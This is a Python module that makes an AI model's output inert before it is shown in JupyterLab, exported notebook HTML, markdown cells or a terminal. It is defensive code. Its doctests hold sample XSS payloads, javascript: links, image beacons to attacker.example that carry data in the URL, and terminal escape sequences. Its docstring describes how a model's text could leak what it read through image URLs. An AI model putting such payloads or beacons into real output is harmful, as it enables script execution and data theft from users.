"""The model's words where people see them, made inert for each place that shows them.

The model's text (its answer, a plan's goal, a failed step's message, the names of the files
its code wrote) is an attacker's, like its code. Each place it is shown trusts something:

* JupyterLab renders the outputs of a cell the user just ran as *trusted*: markdown and HTML
  there are neither sanitized nor script-free, so ``<img onerror=...>`` in an answer shown
  by ``%%ask`` would run in the Jupyter page (which can start kernels). The answer is shown
  as HTML made here (:func:`answer_html`): CommonMark with raw HTML off, then ``nh3``.
* nbconvert's HTML keeps the raw HTML of markdown cells and outputs unless told to sanitize,
  and any markdown viewer renders what a ``.md`` page holds. The audit notebook's markdown
  cells therefore hold the model's text either as markdown that cannot make HTML, a link or
  an image (:func:`markdown_block`), or as literal text (:func:`markdown_inline`,
  :func:`code_span`); the rendered pages are also cleaned with :func:`clean_html`.
* A terminal obeys escape sequences: :func:`terminal_text` shows control characters instead.

Images are never loaded from elsewhere: an image URL is a beacon (the model can spell what
it read into the URL, and the page would send it when shown). Links keep http(s) and mailto.

``nh3`` (the binding of the Rust crate ``ammonia``) is the sanitizer: maintained, fast, and
built on a real HTML5 parser; ``bleach``, which nbconvert uses, is deprecated.
"""

from __future__ import annotations

import re
import string
from functools import lru_cache
from html import escape
from typing import Any

#: Where a link may point. A relative link is dropped: on a Jupyter page it would lead to
#: the Jupyter server itself, where the model's own files are served.
LINK_SCHEMES = frozenset({"http", "https", "mailto"})
#: The images a page may show: embedded ones only (a chart an output carries).
_EMBEDDED_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif);base64,[A-Za-z0-9+/=\s]*", re.IGNORECASE)
#: What makes markdown more than text: an HTML tag, comment or declaration (``<`` then a
#: letter, ``/``, ``!`` or ``?``; an autolink starts the same), an inline link or image
#: (``](``) and a link reference definition (``]:``). A ``<`` before a space or a digit is text
#: in every markdown and HTML parser.
_ACTIVE_MARKDOWN = re.compile(r"<[A-Za-z/!?]|\]\(|\]:")
_PUNCTUATION = frozenset(string.punctuation)
#: A name shown as a code span as it is: no character that could end the span, mean
#: something in a table or open a tag (inside a span they are text, but only for a parser
#: that agrees where the span is).
_PLAIN_NAME = re.compile(r"[^`|<>&\\\s]+(?: [^`|<>&\\\s]+)*")
#: Control characters a terminal acts on (tab and newline excepted), and the marks that
#: reorder the text around them.
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")

HELD_BACK_NOTE = "*Shown as written, not rendered: the text holds HTML or links.*"


#: Attributes holding an address (what nh3 checks as URLs).
_URL_ATTRIBUTES = frozenset({"href", "src", "cite", "action", "formaction", "longdesc", "poster", "background",
                             "xlink:href"})
#: An address that names its scheme (any other is relative).
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")


def _attribute(tag: str, attribute: str, value: str) -> str | None:
    """``nh3``'s per-attribute check: an image only from the page itself (``data:``); of the
    relative addresses, only a place in the page (``#...``: a cell's anchor), never one that
    leads into the server the page is opened from."""
    stripped = value.strip()
    if tag == "img" and attribute == "src":
        return value if _EMBEDDED_IMAGE.fullmatch(stripped) else None
    if stripped.lower().startswith("data:"):
        return None  # a data: URL anywhere else (a link's href) is a page of the model's
    if attribute in _URL_ATTRIBUTES and not _SCHEME.match(value) and not value.startswith("#"):
        return None
    return value


def clean_html(html: str, *, classes: bool = False) -> str:
    """``html`` with only inert markup left: no script, style, frame, form or event handler;
    links to http(s) and mailto only; images only when embedded. ``classes`` keeps ``class``
    attributes (a rendered page's own styling: highlighted code, tables).

    >>> clean_html('<img src=x onerror=alert(1)><b onclick="x()">bold</b><script>alert(1)</script>')
    '<img><b>bold</b>'
    >>> clean_html('<a href="javascript:alert(1)">x</a> <a href="https://example.org/">y</a>')
    '<a rel="noopener noreferrer nofollow">x</a> <a href="https://example.org/" rel="noopener noreferrer nofollow">y</a>'
    >>> clean_html('<img src="http://attacker.example/?q=revenue"><iframe src="http://x"></iframe>')
    '<img>'
    >>> clean_html('<a href="/analyst/api/artifacts/art_1/content">details</a>')
    '<a rel="noopener noreferrer nofollow">details</a>'
    >>> clean_html('<a href="#cell-id=4f2a">In [3]</a> <a href="//attacker.example/x">x</a> <a href=" #x">y</a>')
    '<a href="#cell-id=4f2a" rel="noopener noreferrer nofollow">In [3]</a> <a rel="noopener noreferrer nofollow">x</a> <a rel="noopener noreferrer nofollow">y</a>'
    """
    import nh3

    attributes = {tag: set(names) for tag, names in nh3.ALLOWED_ATTRIBUTES.items()}
    if classes:
        attributes["*"] = {"class"}
    return nh3.clean(
        html,
        attributes=attributes,
        url_schemes=set(LINK_SCHEMES | {"data"}),
        attribute_filter=_attribute,
        link_rel="noopener noreferrer nofollow",
        url_relative="pass_through",  # then only a place in the page is kept (_attribute)
        clean_content_tags={"script", "style", "iframe", "object", "embed", "noscript", "template"},
    )


@lru_cache(maxsize=1)
def _markdown() -> Any:
    """CommonMark with tables and strikethrough, raw HTML off (written out as text), an image
    written as text naming it and its address (neither loaded nor a link)."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])

    def image(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
        token = tokens[idx]
        alt = self.renderInlineAsText(token.children or [], options, env)
        return escape(f"[image{': ' + alt if alt else ''}, {token.attrGet('src') or ''}]")

    md.add_render_rule("image", image)
    return md


def answer_html(text: str) -> str:
    """The model's markdown as inert HTML, for a display that trusts what it is given.

    >>> answer_html("**5** rows <img src=x onerror=alert(1)>")
    '<p><strong>5</strong> rows &lt;img src=x onerror=alert(1)&gt;</p>\\n'
    >>> answer_html("[x](javascript:alert(1)) ![chart](http://attacker.example/c.png?q=secret)")
    '<p>[x](javascript:alert(1)) [image: chart, http://attacker.example/c.png?q=secret]</p>\\n'
    """
    return clean_html(_markdown().render(text))


def inert_markdown(text: str) -> bool:
    """Whether ``text`` renders, as markdown, to text and formatting only: no HTML, no link
    and no image in any CommonMark renderer (bare http(s) URLs may still become links).

    >>> inert_markdown("| region | revenue |\\n|---|---|\\n| North | 1,204 |\\n\\n**x < 5**, see https://example.org")
    True
    >>> [inert_markdown(t) for t in ("<img src=x>", "</p>", "<!-- x -->", "[a](b)", "![](http://x)", "[a]: b")]
    [False, False, False, False, False, False]
    """
    return _ACTIVE_MARKDOWN.search(text) is None


def fenced(text: str, info: str = "") -> str:
    """``text`` as a fenced code block that nothing in it can close (its fence is longer than
    any run of backticks inside).

    >>> print(fenced("a ``` b", "text"))
    ````text
    a ``` b
    ````
    """
    longest = max((len(run) for run in re.findall("`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{info}\n{text}\n{fence}"


def markdown_block(text: str) -> str:
    """The model's text for a markdown cell: as written when it is inert, else shown
    verbatim (a fenced block, under a note saying why), so a reviewer sees what it tried.

    >>> markdown_block("**North** leads")
    '**North** leads'
    >>> print(markdown_block("North <img src=x onerror=alert(1)>"))
    *Shown as written, not rendered: the text holds HTML or links.*
    <BLANKLINE>
    ```text
    North <img src=x onerror=alert(1)>
    ```
    """
    if inert_markdown(text):
        return text
    return f"{HELD_BACK_NOTE}\n\n{fenced(text, 'text')}"


def markdown_inline(text: str) -> str:
    """``text`` as literal markdown text on one line: every ASCII punctuation mark escaped
    (``<``, ``>`` and ``&`` as entities), so nothing in it is markup, a link or a table's
    column break.

    >>> markdown_inline("a|b <img> [x](y)\\n*z*")
    'a\\\\|b &lt;img&gt; \\\\[x\\\\]\\\\(y\\\\) \\\\*z\\\\*'
    """
    out = []
    for char in " ".join(text.split()):
        if char in "&<>":
            out.append(escape(char, quote=False))
        elif char in _PUNCTUATION:
            out.append("\\" + char)
        else:
            out.append(char)
    return "".join(out)


def code_span(text: str) -> str:
    """A name the model chose (a file, a call id) as inline code: a plain code span when it
    is made of plain characters, else escaped text in ``<code>``.

    >>> code_span("outputs/revenue-by-region.csv"), code_span("postgresql://ann:***@db/sales")
    ('`outputs/revenue-by-region.csv`', '`postgresql://ann:***@db/sales`')
    >>> code_span("x`<img onerror>`.csv")
    '<code>x\\\\`&lt;img onerror&gt;\\\\`\\\\.csv</code>'
    """
    line = " ".join(text.split())
    if _PLAIN_NAME.fullmatch(line):
        return f"`{line}`"
    return f"<code>{markdown_inline(line)}</code>"


def terminal_text(text: str) -> str:
    """``text`` for a terminal: control characters (escape sequences' above all) and
    direction marks shown as escapes, not obeyed; tabs and newlines kept.

    >>> terminal_text("done\\x1b]52;c;ZXZpbA==\\x07\\x1b[2Ksafe\\tok\\n")
    'done\\\\x1b]52;c;ZXZpbA==\\\\x07\\\\x1b[2Ksafe\\tok\\n'
    >>> terminal_text("\\u202eevil")
    '\\\\u202eevil'
    """
    if _CONTROL.search(text) is None:
        return text
    return _CONTROL.sub(lambda m: m.group().encode("unicode_escape").decode("ascii"), text)
